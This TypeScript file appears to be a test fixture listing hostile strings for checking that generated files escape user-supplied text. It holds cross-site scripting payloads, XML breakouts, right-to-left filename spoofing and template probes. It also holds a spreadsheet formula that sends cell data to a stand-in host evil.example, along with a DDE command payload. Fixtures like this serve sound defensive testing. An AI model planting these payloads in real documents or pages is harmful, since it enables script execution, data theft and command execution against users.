/** What a reply, a case or a name may hold to break out of the file that it is written into. */
export const hostileTexts: Record<string, string> = {
  script: "<script>alert(1)</script><img src=x onerror=alert(2)>",
  "end of a block": "</pre></details></style><h1>gone</h1>",
  attribute: "\" onmouseover='alert(1)' x=\"",
  cdata: "]]> & <![CDATA[ </system-out> &#0; &bogus;",
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  command: "+cmd|' /C calc'!A0",
  "formula behind blanks": "\n\t @SUM(A1)",
  table: "one | two |\n|---|---|",
  backticks: "``` `code` ```",
  mention:
    "@octocat see #12 and GH-34 ![x](http://evil.example/x.png) [y](javascript:alert(1)) www.evil.example",
  markdown: "# Title\n> quote <!-- comment\n* item",
  controls: "bell \u0007 escape \u001b[31mred\u001b[0m backspace \b form feed \f vertical \u000b",
  "one-byte controls": "\u0085 \u009b31m \ufffe \uffff",
  "right to left": "user \u202egnp.exe\u202c and \u2066isolated\u2069",
  invisible: "in\u200bvis\u200dible \ufeff \u2028 \u2029",
  arabic: "مرحبا بالعالم",
  emoji: "👩‍👩‍👧 𝒳 \u{10ffff}",
  template: "{{constructor}} {7*7} <%= 1 %>",
};
